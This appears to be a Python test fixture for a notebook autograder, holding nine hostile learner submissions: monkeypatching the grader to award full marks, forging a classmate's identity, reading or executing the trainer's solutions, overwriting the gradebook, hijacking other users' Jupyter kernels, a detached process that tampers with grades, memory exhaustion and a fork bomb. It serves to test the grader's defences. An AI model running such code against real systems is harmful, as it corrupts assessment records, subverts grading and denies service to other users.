"""Submissions that attack the grader, as a hostile learner would write them.

Each attack is a code cell added to an otherwise unanswered notebook (its honest work
is worth 0 autograded points), except ``forge_identity``, which solves the exercise on a
classmate's data. ``{course}`` is replaced by the cohort folder's absolute path: the
worst case, a learner who knows where the trainer keeps the cohort.
"""

from __future__ import annotations

#: The learner whose variant ``forge_identity`` tries to be graded against.
CLASSMATE = "p-correct"

PATCH_CHECKS = """
# Attaque : remplacer la notation par une note maximale.
import kamlearn.handout as _h
from IPython.display import display as _display

def _faux(item, ns, *, names=()):
    print(100.0)
    _display({"text/plain": "100.0"}, raw=True)

_h.hand_out = _faux
import kamtrain.checks.runtime as _r
_r.grade = lambda i, ns, *, points: float(points)
"""

FORGE_IDENTITY = """
# Attaque : se faire noter sur les données d'un camarade.
import os
os.environ["KAMTRAIN_LEARNER"] = "{classmate}"
os.environ["JUPYTERHUB_USER"] = "{classmate}"
cas = load_case("c6_satisfaction", cohort=COHORT, learner="{classmate}")
enquete = cas.data["enquete"]
"""

READ_EXPECTED = """
# Attaque : lire les réponses attendues dans l'objet du cas.
nps_global = cas.expected["nps_global"]
nps_par_site = dict(cas.expected["nps_par_site"])
site_le_plus_faible = cas.expected["site_le_plus_faible"]
"""

READ_SOLUTIONS = """
# Attaque : lire et exécuter le corrigé du formateur, puis l'afficher.
import glob, json
_found = glob.glob("../../../source/**/*.ipynb", recursive=True)
for _module in ("kamtrain.paths", "kamlearn.paths"):
    try:
        _p = __import__(_module, fromlist=["x"])
        _found += glob.glob(str(_p.notebooks_dir() / "**" / "*.ipynb"), recursive=True)
    except Exception as _e:
        print("chemins :", _e)
print("carnets du formateur trouvés :", len(_found))
_nb = json.load(open(_found[0] if _found else "{course}/source/bloc1/c6_satisfaction.ipynb"))
for _c in _nb["cells"]:
    if _c["cell_type"] == "code" and _c["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(_c["source"]))
        print("".join(_c["source"]))
"""

TAMPER_RECORDS = """
# Attaque : modifier le carnet de notes, la dernière sauvegarde et les copies exécutées.
import os
from pathlib import Path
print("dossier du parent :", os.readlink(f"/proc/{os.getppid()}/cwd"))
_course = Path("{course}")
for _target in (
    _course / "gradebook.db",
    *sorted((_course / "backups").glob("*"))[-1:],
    *(_course / ".kamtrain" / "executed").rglob("*.ipynb"),
):
    _target.write_bytes(b"pirate")
with open(_course / "gradebook.db", "r+b") as _db:
    _db.write(b"pirate")
"""

HIJACK_KERNELS = """
# Attaque : piloter les noyaux des autres apprenants par leurs fichiers de connexion.
import glob, os
import ipykernel
_own = os.path.realpath(ipykernel.get_connection_file())
_files = set(glob.glob("/tmp/**/*.json", recursive=True))
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _cmd = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"-f" in _cmd:
            _files.add(_cmd[_cmd.index(b"-f") + 1].decode())
_others = sorted(f for f in _files if os.path.exists(f) and os.path.realpath(f) != _own)
print("noyaux d'autres apprenants trouvés :", len(_others))
from jupyter_client import BlockingKernelClient
for _f in _others:
    _kc = BlockingKernelClient(connection_file=_f)
    _kc.load_connection_file()
    _kc.start_channels()
    _kc.execute("nps_global = -999; nps_par_site = {}; site_le_plus_faible = 'x'")
if not _others:
    open("/root/.local/share/jupyter/runtime/kernel-des-autres.json")
"""

DOUBLE_FORK = """
# Attaque : un processus détaché qui modifie les notes après la correction.
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(10)
        try:
            with open("{course}/gradebook.db", "r+b") as _db:
                _db.write(b"pirate")
        finally:
            os._exit(0)
    os._exit(0)
os.wait()
print("processus détaché lancé")
"""

MEMORY_HOG = """
# Attaque : épuiser la mémoire de la machine (16 Gio réservés par blocs de 512 Mio).
import numpy as _np
_blocs = [_np.empty(512 * 1024 * 1024, dtype=_np.uint8) for _ in range(32)]
"""

FORK_STORM = """
# Attaque : une avalanche de processus.
import os, time
_n = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        _n += 1
finally:
    print("processus créés :", _n)
"""

ATTACKS = {
    "patch_checks": PATCH_CHECKS,
    "forge_identity": FORGE_IDENTITY,
    "read_expected": READ_EXPECTED,
    "read_solutions": READ_SOLUTIONS,
    "tamper_records": TAMPER_RECORDS,
    "hijack_kernels": HIJACK_KERNELS,
    "double_fork": DOUBLE_FORK,
    "memory_hog": MEMORY_HOG,
    "fork_storm": FORK_STORM,
}


def attack_code(profile: str, *, course_dir) -> str:
    return ATTACKS[profile].replace("{course}", str(course_dir)).replace(
        "{classmate}", CLASSMATE
    )
